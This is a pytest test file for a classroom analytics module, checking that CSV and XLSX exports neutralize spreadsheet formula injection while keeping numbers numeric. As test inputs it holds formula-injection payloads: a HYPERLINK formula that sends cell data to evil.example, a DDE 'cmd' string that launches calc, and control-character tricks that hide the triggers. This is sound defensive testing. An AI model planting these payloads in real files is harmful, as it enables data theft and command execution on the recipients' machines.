"""CSV and XLSX exports neutralize formula text, keep numbers numeric, and round-trip."""

from __future__ import annotations

import csv
import io
import re

import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from classroom.analytics.exports import (
    FORMULA_TRIGGERS,
    neutralize_cell,
    neutralize_frame,
    to_csv_bytes,
    to_xlsx_bytes,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\tx",
    "\rx",
    "\nx",
    "＝1+1",  # full-width equals sign
    "－2",
]
# Issue 14, finding 3: a control character first used to hide the trigger from the check.
HIDDEN = ["\x01=1+1", "\x02=cmd|' /C calc'!A0", "\x00@SUM(A1)", "\u200b=1+1", "\ufeff-2", "\x7f+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_gets_an_apostrophe(text: str):
    assert neutralize_cell(text) == "'" + text


@pytest.mark.parametrize("text", HIDDEN)
def test_finding_3_a_leading_control_character_is_removed_before_the_check(text: str):
    safe = neutralize_cell(text)
    assert safe.startswith("'") and safe[1] in "=+-@"
    assert safe[1:] == text[1:]


@pytest.mark.parametrize("text", ["Ana María", "", "'=already quoted", "5", "a=b", " =x", "👩‍⚕️"])
def test_harmless_text_is_untouched(text: str):
    assert neutralize_cell(text) == text


def test_text_is_normalised_to_nfc_without_control_characters():
    assert neutralize_cell("Zoe\u0308\x07 \u202eTe") == "Zoë Te"
    assert neutralize_cell("line one\nline two\tend") == "line one\nline two\tend"


def test_negative_number_as_text_is_still_text():
    assert neutralize_cell("-5") == "'-5"


@pytest.mark.parametrize(
    "number", [-5, 3, -2.5, np.int64(-3), np.float64(-1.5), True, False, float("nan")]
)
def test_numbers_stay_numbers(number: object):
    assert neutralize_cell(number) is number


def test_none_stays_empty():
    assert neutralize_cell(None) is None


def hostile_frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "student": ["Zoë", *HOSTILE[:6], "\x00x"],
            "points": [3, -1, 0, 2, 5, 1, 4, 2],
            "percent": [37.5, -12.5, 0.0, 25.0, 62.5, 12.5, 50.0, 25.0],
            "passed": [False, False, False, False, True, False, True, False],
            "note": ["ok", None, "=1+1", 7, "-3", "fine", "@x", "+"],
        }
    )


def test_neutralize_frame_leaves_the_input_alone():
    frame = hostile_frame()
    safe = neutralize_frame(frame)
    assert frame.loc[1, "student"] == HOSTILE[0]
    assert safe.loc[1, "student"] == "'" + HOSTILE[0]
    assert safe.loc[4, "note"] == "'-3"
    assert safe.loc[3, "note"] == 7
    assert safe["points"].dtype == np.int64


def test_column_names_are_neutralized():
    safe = neutralize_frame(pd.DataFrame({"=cmd()": [1], "ok": [2]}))
    assert list(safe.columns) == ["'=cmd()", "ok"]


def test_csv_has_bom_and_neutralized_text():
    data = to_csv_bytes(hostile_frame())
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    assert text.splitlines()[0] == "student,points,percent,passed,note"
    assert "\r\n" in text
    assert "\x00" not in text
    # No field, quoted or not, starts with a formula trigger.
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", keep_default_na=False)
    for value in back["student"].tolist() + back["note"].tolist():
        assert not str(value).startswith(("=", "+", "-", "@", "\t", "\r"))


def test_csv_keeps_numbers_numeric():
    back = pd.read_csv(io.BytesIO(to_csv_bytes(hostile_frame())), encoding="utf-8-sig")
    assert back["points"].dtype == np.int64
    assert back["percent"].dtype == np.float64
    assert back["passed"].dtype == bool
    assert back["points"].tolist() == [3, -1, 0, 2, 5, 1, 4, 2]
    assert back.loc[0, "student"] == "Zoë"
    assert back.loc[1, "student"] == "'" + HOSTILE[0]
    assert back.loc[2, "student"] == "'+1"
    assert back.loc[3, "student"] == "'-2"
    assert back.loc[5, "student"] == "'\tx"
    assert back.loc[6, "student"] == "'\rx"


def test_csv_with_index():
    frame = pd.DataFrame({"facility": [50.0]}, index=pd.Index(["=evil"], name="item"))
    back = pd.read_csv(io.BytesIO(to_csv_bytes(frame, index=True)), encoding="utf-8-sig")
    assert back.to_dict("records") == [{"item": "'=evil", "facility": 50.0}]


def read_xlsx(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def test_xlsx_neutralizes_text_and_keeps_numbers():
    workbook = read_xlsx(to_xlsx_bytes({"Scores": hostile_frame(), "Empty": pd.DataFrame()}))
    assert workbook.sheetnames == ["Scores", "Empty"]
    sheet = workbook["Scores"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ("student", "points", "percent", "passed", "note")
    students = [row[0] for row in rows[1:]]
    assert students[0] == "Zoë"
    assert students[1] == "'" + HOSTILE[0]
    assert students[2:5] == ["'+1", "'-2", "'@SUM(A1:A9)"]
    assert students[5] == "'\tx"
    # XML turns a bare CR into LF; the apostrophe stays in front. NUL is removed.
    assert students[6] in ("'\rx", "'\nx")
    assert students[7] == "x"
    for row in sheet.iter_rows(min_row=2):
        assert row[0].data_type == "s"
        assert row[1].data_type == "n"
        assert row[2].data_type == "n"
        assert row[3].data_type == "b"
    assert [cell.value for cell in sheet["B"][1:]] == [3, -1, 0, 2, 5, 1, 4, 2]
    notes = [cell for cell in sheet["E"][1:]]
    assert [cell.value for cell in notes] == [
        "ok",
        None,
        "'=1+1",
        7,
        "'-3",
        "fine",
        "'@x",
        "'+",
    ]
    assert notes[3].data_type == "n"
    # No cell anywhere became a formula.
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_xlsx_writes_missing_values_as_empty_cells():
    frame = pd.DataFrame({"score": [1.5, np.nan, 3.0], "name": [None, "b", None]})
    rows = list(read_xlsx(to_xlsx_bytes({"S": frame}))["S"].iter_rows(values_only=True))
    assert rows == [("score", "name"), (1.5, None), (None, "b"), (3, None)]


@pytest.mark.parametrize(
    "sheets",
    [{}, {"": pd.DataFrame()}, {"a/b": pd.DataFrame()}, {"x" * 32: pd.DataFrame()}],
)
def test_xlsx_rejects_bad_sheet_names(sheets: dict[str, pd.DataFrame]):
    with pytest.raises(ValueError):
        to_xlsx_bytes(sheets)


def test_xlsx_rejects_sheet_names_differing_only_in_case():
    with pytest.raises(ValueError, match="twice"):
        to_xlsx_bytes({"Items": pd.DataFrame(), "items": pd.DataFrame()})


# A gradebook as classroom.analytics.dashboard.exports_for writes it (its numbers are tested there).
GRADEBOOK = pd.DataFrame(
    {
        "student": ["Bo", "Cy", "Zoë"],
        "points": [16, 1, 5],
        "max_points": [17, 5, 8],
        "percent": [50.0, 20.0, 62.5],
        "raw_percent": [94.1, 20.0, 62.5],
        "capped": [True, False, False],
        "must_avoid": [1, 0, 0],
    }
)


def test_gradebook_round_trips_through_csv_and_xlsx():
    book = GRADEBOOK
    back = pd.read_csv(io.BytesIO(to_csv_bytes(book)), encoding="utf-8-sig")
    pd.testing.assert_frame_equal(back, book, check_dtype=False)
    assert back["percent"].dtype == np.float64 and back["capped"].dtype == bool
    assert pd.api.types.is_integer_dtype(back["points"])

    data = to_xlsx_bytes({"Gradebook": book})
    from_xlsx = pd.read_excel(io.BytesIO(data), engine="openpyxl")
    pd.testing.assert_frame_equal(from_xlsx, book, check_dtype=False)
    # XLSX has one number type, so 80.0 may come back as the integer 80; it is still a number.
    for column in ("points", "max_points", "percent", "raw_percent", "must_avoid"):
        assert pd.api.types.is_numeric_dtype(from_xlsx[column])
    for row in read_xlsx(data)["Gradebook"].iter_rows(min_row=2):
        assert [cell.data_type for cell in row] == ["s", "n", "n", "n", "n", "b", "n"]


def test_gradebook_export_neutralizes_hostile_student_names():
    hostile = GRADEBOOK.assign(student=GRADEBOOK["student"].replace({"Bo": "=cmd|' /C calc'!A0"}))
    back = pd.read_csv(io.BytesIO(to_csv_bytes(hostile)), encoding="utf-8-sig")
    assert back.loc[0, "student"] == "'=cmd|' /C calc'!A0"
    assert back.loc[0, "percent"] == 50.0


# --- No export of any string holds a formula cell or a CSV cell a spreadsheet evaluates ----

# Any text, weighted towards what makes trouble: triggers, controls, invisibles, full width.
_TROUBLE = st.sampled_from(
    list("=+-@\t\r\n\x00\x01\x1b\x7f\x85\u200b\u202e\ufeff＝＋－＠﹦﹢﹣−'\" ,;|")
)
# Lone surrogates (category Cs) are left out: no export can meet one, since neither database
# stores them and pandas' string columns refuse them (the frame below could not be built).
TEXTS = st.lists(st.one_of(_TROUBLE, st.characters(exclude_categories=["Cs"])), max_size=12).map(
    "".join
)


def evaluates(cell: str) -> bool:
    """Whether a spreadsheet would read a cell as a formula (or hide something before one)."""
    return cell.startswith(FORMULA_TRIGGERS) or bool(
        re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", cell)
    )


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(names=st.lists(TEXTS, min_size=1, max_size=4), header=TEXTS)
def test_no_export_of_any_string_has_a_formula_or_an_evaluated_csv_cell(names, header):
    frame = pd.DataFrame({"student": names, header or "x": names, "points": range(len(names))})
    rows = list(csv.reader(io.StringIO(to_csv_bytes(frame).decode("utf-8-sig"), newline="")))
    assert not [cell for row in rows for cell in row if evaluates(cell)]
    sheet = read_xlsx(to_xlsx_bytes({"S": frame}))["S"]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.value for c in cells if c.data_type == "f"]
    assert not [c.value for c in cells if isinstance(c.value, str) and evaluates(c.value)]
